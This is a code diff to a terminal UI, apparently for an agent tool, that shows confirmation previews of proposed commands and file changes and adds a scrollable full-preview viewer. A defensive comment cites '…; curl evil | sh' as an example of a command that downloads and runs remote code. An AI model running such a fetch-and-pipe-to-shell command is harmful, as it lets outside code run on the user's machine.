@@ -7,6 +7,7 @@ from typing import Any, assert_never
 from prompt_toolkit.formatted_text import FormattedText
 
 from dashfloat.catalogue import summarize_call
+from dashfloat.protocol import ConfirmRequested
 from dashfloat.ui._markdown import render_markdown
 from dashfloat.ui._text import Fragment, Row, clip, row_width, sanitize, width_of, wrap
 from dashfloat.ui.state import (
@@ -22,6 +23,8 @@ from dashfloat.ui.state import (
     ToolResult,
     UiState,
     UserPrompt,
+    full_preview_lines,
+    viewer_rows,
 )
 
 TOOL_OUTPUT_MAX_LINES = 30
@@ -231,26 +234,51 @@ def _live_output_rows(live: LiveOutput, now: float, width: int) -> list[Row]:
     return rows
 
 
+def _diff_style(line: str) -> str:
+    return "class:diff.add" if line.startswith("+") else "class:diff.del" if line.startswith("-") else "class:dim"
+
+
+def _confirm_header(confirm: ConfirmRequested, width: int) -> Row:
+    """Tool, path (or command) and summary: on screen whatever the height, with the key for the whole change."""
+    row = _tool_row("class:tool", confirm.name, confirm.args, max(1, width - 40))
+    extra = " · ".join(x for x in (sanitize(confirm.summary).replace("\n", " "), "v view all") if x)
+    room = width - row_width(row) - 3
+    if room < 4:
+        return row
+    return (*row, ("class:dim", " · " + clip(extra, room)))
+
+
 def _confirm_rows(state: UiState, width: int, budget: int) -> list[Row]:
     confirm = state.confirm
     assert confirm is not None
-    rows: list[Row] = []
-    if confirm.id != state.last_call_id:
-        rows.append(_tool_row("class:tool", confirm.name, confirm.args, width))
+    rows: list[Row] = [_confirm_header(confirm, width)]
+    if state.viewer is not None:
+        return [*rows, *_viewer_rows(state, confirm, width)]
     body: list[Row] = []
     for line in confirm.lines:
-        style = "class:diff.add" if line.startswith("+") else "class:diff.del" if line.startswith("-") else "class:dim"
-        body.extend(((style, p),) for p in _columns(sanitize(line), max(1, width - 2)))
+        body.extend(((_diff_style(line), p),) for p in _columns(sanitize(line), max(1, width - 2)))
     room = max(1, budget - 2)
     if len(body) > room:
         # head and tail: what a command line or a diff ends with matters as much as how it starts
         # (`…; curl evil | sh` must be on screen when the user presses y)
         keep = max(1, room - 1)
         head, tail = keep - keep // 2, keep // 2
-        cut = (("class:dim", f"… {len(body) - keep} more preview lines …"),)
+        cut = (("class:dim", f"… {len(body) - keep} more preview lines (v shows all) …"),)
         body = [*body[:head], cut, *(body[-tail:] if tail else [])]
     rows.extend((("", "  "), *r) for r in body)
     rows.append(_confirm_footer(state, width))
+    return rows
+
+
+def _viewer_rows(state: UiState, confirm: ConfirmRequested, width: int) -> list[Row]:
+    """The full preview, one screenful from ``state.viewer``; long lines are cut (the pager shows their start)."""
+    lines = full_preview_lines(confirm)
+    top = state.viewer or 0
+    shown = lines[top : top + viewer_rows(state)]
+    rows: list[Row] = [(("", "  "), (_diff_style(line), clip(sanitize(line), max(1, width - 2)))) for line in shown]
+    end = top + len(shown)
+    footer = f"lines {top + 1}–{end} of {len(lines)} · ↑↓ PgUp PgDn Home End scroll · q or v back to the keys"
+    rows.append((("class:tool", clip(footer, width)),))
     return rows
 
 
